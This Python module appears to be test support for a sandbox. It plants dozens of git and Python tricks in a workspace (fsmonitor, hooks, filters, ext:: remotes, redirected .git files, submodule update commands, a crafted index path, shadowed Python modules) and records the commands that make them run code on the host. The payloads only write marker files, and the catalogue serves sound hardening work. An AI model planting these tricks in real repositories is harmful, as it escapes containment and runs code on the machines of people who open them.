"""What a box could write into its workspace so that something runs on the host: a catalogue, with commands that prove
that it would.

Each trick is planted in a folder with a `.git`. `provoke` is what a person or a careless program would run there; with
plain git it leads to the marker. Those that are known but could not be provoked by settings in a repository are in
NOT_PROVOKED, with the reason.
"""

from __future__ import annotations

import hashlib
import os
import shutil
import subprocess
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from pathlib import Path

HOOKS = (
    "applypatch-msg", "pre-applypatch", "post-applypatch", "pre-commit", "pre-merge-commit", "prepare-commit-msg",
    "commit-msg", "post-commit", "pre-rebase", "post-checkout", "post-merge", "pre-push", "pre-receive", "update",
    "proc-receive", "post-receive", "post-update", "reference-transaction", "push-to-checkout", "pre-auto-gc",
    "post-rewrite", "sendemail-validate", "fsmonitor-watchman", "post-index-change", "p4-pre-submit",
)  # fmt: skip

NOT_PROVOKED = {
    "uploadpack.packObjectsHook": "git reads it from the system's and the person's configuration only",
    "safe.directory, safe.bareRepository": "the same",
    "remote.*.vcs": "needs a program git-remote-NAME on PATH, where a box cannot write",
    "http.proxy, http.sslCAInfo": "lead a connection astray, and run nothing",
    "init.templateDir": "counts when a repository is made, and is not read from the one around",
    ".lfsconfig": "git-lfs takes only addresses from it; see test_lfs.py",
    ".gitmodules (update = !command)": "git refuses it there; in .git/config it works, see `submodule update`",
    "info/grafts, commit-graph, multi-pack-index": "change what git shows, and run nothing",
    ".editorconfig, .envrc, .vscode/tasks.json, Makefile": "files for other programs, which the host never starts",
}


@dataclass(frozen=True)
class Planting:
    """Where a trick is planted and what it leaves when it works."""

    tree: Path
    """The workspace."""
    ran: Path
    """Folder of markers."""
    outside: Path
    """A folder that nothing may be written to; holds secret.txt."""

    def evil(self, name: str = "evil") -> Path:
        """A program in the workspace that leaves a marker, and waits for nothing."""
        return self.script(f"tools/{name}.sh", f": > '{self.ran}/{name}'\n")

    def script(self, path: str, text: str) -> Path:
        """An executable file."""
        return self.write(path, f"#!/bin/sh\n{text}", 0o755)

    def write(self, path: str, text: str | bytes, mode: int = 0o644) -> Path:
        """A file of the workspace."""
        file = self.tree / path
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_bytes(text.encode() if isinstance(text, str) else text)
        file.chmod(mode)
        return file

    def config(self, text: str, path: str = ".git/config") -> None:
        """More settings."""
        file = self.tree / path
        file.write_text((file.read_text() if file.exists() else "") + text)

    def setting(self, key: str, value: str | Path) -> None:
        """One setting."""
        self.git("config", "--file", str(self.tree / ".git/config"), "--add", key, str(value))

    def git(self, *arguments: str, stdin: bytes = b"") -> str:
        """git as the box would run it."""
        done = subprocess.run(
            ["git", *arguments], cwd=self.tree, input=stdin, capture_output=True, check=False, env=box_environment()
        )
        assert done.returncode == 0, done.stderr.decode()
        return done.stdout.decode().strip()

    def happened(self) -> list[str]:
        """What has run, and what was written outside."""
        return sorted([p.name for p in self.ran.iterdir()] + [
            str(p.relative_to(self.outside)) for p in self.outside.rglob("*") if p.name != "secret.txt"
        ])  # fmt: skip

    def forget(self) -> None:
        """Remove the markers."""
        for folder in (self.ran, self.outside):
            shutil.rmtree(folder)
            folder.mkdir()
        (self.outside / "secret.txt").write_text("secret\n")


def box_environment() -> dict[str, str]:
    """What git in a box runs with; the identity comes from the workspace's own configuration or from here."""
    who = {f"GIT_{role}_{what}": "box" for role in ("AUTHOR", "COMMITTER") for what in ("NAME", "EMAIL")}
    path = os.environ["PATH"]
    return {"PATH": path, "TERM": "xterm", "HOME": "/nonexistent", "GIT_CONFIG_NOSYSTEM": "1", **who}


@dataclass(frozen=True)
class Trick:
    """One way."""

    name: str
    plant: Callable[[Planting], None]
    provoke: str
    """Shell commands, run in a copy of the workspace."""
    environment: Mapping[str, str] = field(default_factory=dict)
    """Of the host, while it works; a value may name {evil}."""


TRICKS: list[Trick] = []


def trick(name: str, provoke: str, **environment: str) -> Callable[[Callable[[Planting], None]], None]:
    """Add one to the catalogue."""

    def add(plant: Callable[[Planting], None]) -> None:
        TRICKS.append(Trick(name, plant, provoke, environment))

    return add


def setting(name: str, key: str, provoke: str, value: str = "{evil}", *more: tuple[str, str]) -> None:
    """Add one that is a setting in .git/config."""

    def plant(to: Planting) -> None:
        evil = to.evil()
        for one, text in ((key, value), *more):
            to.setting(one.format(evil=evil), text.format(evil=evil, tree=to.tree, outside=to.outside))

    TRICKS.append(Trick(name, plant, provoke))


CHANGE = "echo more >> a.txt; "
COMMIT = "git commit -q --allow-empty -m x"
ON_TERMINAL = "script -qec '{}' /dev/null"

setting("core.fsmonitor", "core.fsmonitor", "git status")
setting("core.pager", "core.pager", ON_TERMINAL.format("git log"))
setting("pager.log", "pager.log", ON_TERMINAL.format("git log"))
setting("core.editor", "core.editor", "git commit --allow-empty")
setting("sequence.editor", "sequence.editor", f"{COMMIT}; git rebase -i HEAD~1")
setting("core.sshCommand", "core.sshCommand", "git ls-remote ssh://localhost/x")
setting("core.gitProxy", "core.gitProxy", "git ls-remote git://localhost/x")
setting("core.askPass", "core.askPass", "printf 'protocol=https\\nhost=x\\n\\n' | git credential fill")
setting("credential.helper", "credential.helper", "printf 'protocol=https\\nhost=x\\n\\n' | git credential fill")
setting("gpg.program", "gpg.program", COMMIT, "{evil}", ("commit.gpgSign", "true"))
setting(
    "gpg.ssh.program", "gpg.ssh.program", COMMIT, "{evil}",
    ("gpg.format", "ssh"), ("user.signingKey", "key::ssh-ed25519 AAAA"), ("commit.gpgSign", "true"),
)  # fmt: skip
setting("alias", "alias.st", "git st", "!{evil}")
setting("diff.external", "diff.external", f"{CHANGE} git diff")
setting("uploadpack of a remote", "remote.origin.uploadpack", "git fetch", "{evil}", ("remote.origin.url", "."))
setting("receivepack of a remote", "remote.origin.receivepack", "git push origin HEAD:x", "{evil}",
        ("remote.origin.url", "."))  # fmt: skip
setting("a remote of ext::", "remote.origin.url", "git fetch", "ext::{evil}", ("protocol.ext.allow", "always"))
setting("url.*.insteadOf", "url.ext::{evil} .insteadOf", "git ls-remote https://localhost/x", "https://localhost/",
        ("protocol.ext.allow", "always"))  # fmt: skip
setting("url.*.pushInsteadOf", "url.ext::{evil} .pushInsteadOf", "git push https://localhost/x HEAD:x",
        "https://localhost/", ("protocol.ext.allow", "always"))  # fmt: skip
setting("trailer command", "trailer.sign.command", "echo x | git interpret-trailers --trailer sign=a", "{evil}",
        ("trailer.sign.ifexists", "add"))  # fmt: skip
setting("difftool", "difftool.x.cmd", f"{CHANGE} git difftool -y -t x", "{evil}")
setting("archive format", "tar.evil.command", "git archive --format=evil HEAD")
setting("interactive.diffFilter", "interactive.diffFilter", f"{CHANGE} echo q | {ON_TERMINAL.format('git add -p')}")
setting("core.worktree", "core.worktree", "git checkout -f HEAD -- a.txt", "{outside}")
setting("a promisor that runs a program", "remote.origin.uploadpack", f"git cat-file -e {'1' * 40}", "{evil}",
        ("remote.origin.url", "."), ("remote.origin.promisor", "true"))  # fmt: skip
setting(
    "core.alternateRefsCommand", "core.alternateRefsCommand",
    "git clone -q --bare . o.git; echo $PWD/o.git/objects >> .git/objects/info/alternates; "
    "c=$(git -C o.git commit-tree -m x HEAD^{tree}); git -C o.git update-ref refs/heads/new $c; git fetch ./o.git new",
)  # fmt: skip


@trick("hooks", f"{CHANGE} git add -A; {COMMIT}; git checkout -q -b other; git gc --auto")
def _(to: Planting) -> None:
    for hook in HOOKS:
        to.script(f".git/hooks/{hook}", f": > '{to.ran}/{hook}'\n")


@trick("hooks of a push into it", "git push -q . HEAD:refs/heads/pushed")
def _(to: Planting) -> None:
    for hook in ("pre-receive", "update", "post-receive", "post-update"):
        to.script(f".git/hooks/{hook}", f": > '{to.ran}/{hook}'\n")


@trick("core.hooksPath", COMMIT)
def _(to: Planting) -> None:
    to.script("tools/hooks/pre-commit", f": > '{to.ran}/pre-commit'\n")
    to.setting("core.hooksPath", to.tree / "tools/hooks")


@trick("hooks behind a link", COMMIT)
def _(to: Planting) -> None:
    to.script("tools/hooks/pre-commit", f": > '{to.ran}/pre-commit'\n")
    (to.tree / ".git/hooks").symlink_to(to.tree / "tools/hooks")


def _filter(to: Planting, kind: str, attributes: str = ".gitattributes") -> None:
    to.write(attributes, "a.txt filter=evil\n")
    to.setting(f"filter.evil.{kind}", to.evil(kind))


@trick("filter clean", f"{CHANGE} git add -A")
def _(to: Planting) -> None:
    (to.tree / ".git/info/attributes").unlink()
    _filter(to, "clean")


@trick("filter clean, on a mere diff", f"{CHANGE} git -c core.fsmonitor=false -c core.hooksPath=/dev/null diff")
def _(to: Planting) -> None:
    (to.tree / ".git/info/attributes").unlink()
    _filter(to, "clean")


@trick("filter smudge", "rm a.txt; git checkout -- a.txt")
def _(to: Planting) -> None:
    (to.tree / ".git/info/attributes").unlink()
    _filter(to, "smudge")


@trick("filter process", f"{CHANGE} git add -A")
def _(to: Planting) -> None:
    (to.tree / ".git/info/attributes").unlink()
    _filter(to, "process")


@trick("filter in info/attributes", f"{CHANGE} git add -A")
def _(to: Planting) -> None:
    _filter(to, "clean", ".git/info/attributes")


@trick("core.attributesFile", f"{CHANGE} git add -A")
def _(to: Planting) -> None:
    (to.tree / ".git/info/attributes").unlink()
    _filter(to, "clean", "tools/attributes")
    to.setting("core.attributesFile", to.tree / "tools/attributes")


@trick("textconv", f"{CHANGE} git diff")
def _(to: Planting) -> None:
    to.write(".git/info/attributes", "a.txt diff=evil\n")
    to.setting("diff.evil.textconv", to.evil())


@trick("textconv, by blame", "git blame a.txt")
def _(to: Planting) -> None:
    to.write(".git/info/attributes", "a.txt diff=evil\n")
    to.setting("diff.evil.textconv", to.evil())


@trick("diff driver", f"{CHANGE} git diff")
def _(to: Planting) -> None:
    (to.tree / ".git/info/attributes").unlink()
    to.write(".gitattributes", "a.txt diff=evil\n")
    to.setting("diff.evil.command", to.evil())


@trick("merge driver", "git switch -q -c one; echo 1 > a.txt; git commit -q -a -m 1; git switch -q -c two HEAD~1; "
       "echo 2 > a.txt; git commit -q -a -m 2; git merge -q one")  # fmt: skip
def _(to: Planting) -> None:
    to.write(".git/info/attributes", "a.txt merge=evil\n")
    to.setting("merge.evil.driver", f"{to.evil()} %A")


@trick("gpg.program, by a log of signed commits", "git log -1 signed")
def _(to: Planting) -> None:
    to.setting("gpg.program", to.evil())
    to.setting("log.showSignature", "true")
    head = to.git("cat-file", "commit", "HEAD")
    before, _, message = head.partition("\n\n")
    signature = "gpgsig -----BEGIN PGP SIGNATURE-----\n \n AAAA\n -----END PGP SIGNATURE-----"
    made = to.git(
        "hash-object", "-t", "commit", "-w", "--stdin", stdin=f"{before}\n{signature}\n\n{message}\n".encode()
    )
    to.git("update-ref", "refs/heads/signed", made)


@trick("include.path", "git status")
def _(to: Planting) -> None:
    to.write("tools/more.config", f"[core]\n\tfsmonitor = {to.evil()}\n")
    to.setting("include.path", to.tree / "tools/more.config")


@trick("includeIf", "git status")
def _(to: Planting) -> None:
    to.write("tools/more.config", f"[core]\n\tfsmonitor = {to.evil()}\n")
    to.setting("includeIf.gitdir:/.path", to.tree / "tools/more.config")


@trick("settings of a worktree", "git status")
def _(to: Planting) -> None:
    to.config(f"[core]\n\tfsmonitor = {to.evil()}\n", ".git/config.worktree")
    to.setting("core.repositoryFormatVersion", "1")
    to.setting("extensions.worktreeConfig", "true")


def _trap(to: Planting, path: str) -> Path:
    """A repository inside the workspace whose settings run a program."""
    trap = to.tree / path
    shutil.copytree(to.tree / ".git", trap, symlinks=True)
    to.git("config", "--file", str(trap / "config"), "core.fsmonitor", str(to.evil()))
    to.git("config", "--file", str(trap / "config"), "core.worktree", str(to.tree))
    return trap


@trick("a .git file that points elsewhere", "git status")
def _(to: Planting) -> None:
    trap = _trap(to, "tools/trap")
    shutil.rmtree(to.tree / ".git")
    to.write(".git", f"gitdir: {trap}\n")


@trick("a .git that is a link", "git status")
def _(to: Planting) -> None:
    trap = _trap(to, "tools/trap")
    shutil.rmtree(to.tree / ".git")
    (to.tree / ".git").symlink_to(trap)


@trick("a common folder that is elsewhere", "git status")
def _(to: Planting) -> None:
    trap = _trap(to, "tools/trap")
    to.write(".git/commondir", f"{trap}\n")


@trick("an embedded bare repository", "cd docs; git status")
def _(to: Planting) -> None:
    shutil.copytree(to.tree / ".git", to.tree / "docs", symlinks=True)
    config = str(to.tree / "docs/config")
    for key, value in (("core.fsmonitor", str(to.evil())), ("core.worktree", "."), ("core.bare", "false")):
        to.git("config", "--file", config, key, value)


@trick("a nested repository as a gitlink", "git status")
def _(to: Planting) -> None:
    nested = to.tree / "nested"
    nested.mkdir()
    shutil.copytree(to.tree / ".git", nested / ".git", symlinks=True)
    to.git("config", "--file", str(nested / ".git/config"), "core.fsmonitor", str(to.evil()))
    to.git("update-index", "--add", "--cacheinfo", f"160000,{to.git('rev-parse', 'HEAD')},nested")


@trick("submodule update", "git submodule update --init")
def _(to: Planting) -> None:
    head = to.git("rev-parse", "HEAD")
    to.write(".gitmodules", f'[submodule "lib"]\n\tpath = lib\n\turl = {to.tree}\n')
    to.git("update-index", "--add", "--cacheinfo", f"160000,{head},lib")
    shutil.copytree(to.tree / ".git", to.tree / ".git-of-lib", symlinks=True)
    (to.tree / ".git/modules").mkdir()
    (to.tree / ".git-of-lib").rename(to.tree / ".git/modules/lib")
    (to.tree / ".git/modules/lib/index").unlink()
    to.setting("submodule.lib.url", str(to.tree))
    to.setting("submodule.lib.update", f"!{to.evil()}")


@trick("objects behind a link", "echo new > new.txt; git add new.txt")
def _(to: Planting) -> None:
    for first in range(256):
        folder = to.tree / ".git/objects" / f"{first:02x}"
        if not folder.exists():
            folder.symlink_to(to.outside)


@trick("an index with a path that leads out", "git checkout-index -f -a")
def _(to: Planting) -> None:
    blob = to.git("hash-object", "-w", "--stdin", stdin=b"escaped\n")
    name = f"{to.outside.name}/escaped"
    to.git("update-index", "--add", "--cacheinfo", f"100644,{blob},xx/yy/{name}")
    index = to.tree / ".git/index"
    data = index.read_bytes()[:-20].replace(b"xx/yy/" + name.encode(), b"../../" + name.encode())
    index.write_bytes(data + hashlib.sha1(data).digest())


@trick("a module of Python", "/usr/bin/python3 -c 'import json'; /usr/bin/python3 -m json.tool </dev/null")
def _(to: Planting) -> None:
    for name in ("json", "sitecustomize", "usercustomize", "conftest", "asyncio", "pathlib", "midwatch"):
        to.write(f"{name}.py", f"open({str(to.ran / name)!r}, 'w').close()\n")
    to.write("evil.pth", f"import os; open({str(to.ran / 'pth')!r}, 'w').close()\n")
    to.write("pyproject.toml", "[tool.pytest.ini_options]\naddopts = '-p json'\n")


@trick("variables of git", f"{CHANGE} git diff", GIT_EXTERNAL_DIFF="{evil}", GIT_EDITOR="{evil}", GIT_PAGER="{evil}",
       GIT_SEQUENCE_EDITOR="{evil}", GIT_EXEC_PATH_="{evil}", GIT_TEMPLATE_DIR="{evil}")  # fmt: skip
def _(to: Planting) -> None:
    to.evil()


_APART = (
    "a .git file that points elsewhere", "a .git that is a link", "a common folder that is elsewhere",
    "hooks behind a link", "an index with a path that leads out", "objects behind a link", "core.worktree",
)  # fmt: skip
"""Those that put something else in the place of what the others change."""


_FIRST = ("gpg.program, by a log of signed commits", "a nested repository as a gitlink", "submodule update")
"""Those that need a git that works."""


def plant_all(tree: Path, ran: Path, outside: Path) -> None:
    """Plant everything that goes together, and leave no marker."""
    to = Planting(tree, ran, outside)
    for one in sorted(TRICKS, key=lambda one: one.name not in _FIRST):
        if one.name not in _APART:
            (tree / ".git/info/attributes").touch()
            one.plant(to)
    to.write(".git/info/attributes", "* filter=evil diff=evil merge=evil\n")
    to.write(".gitattributes", "* filter=evil diff=evil merge=evil\n")
    to.forget()
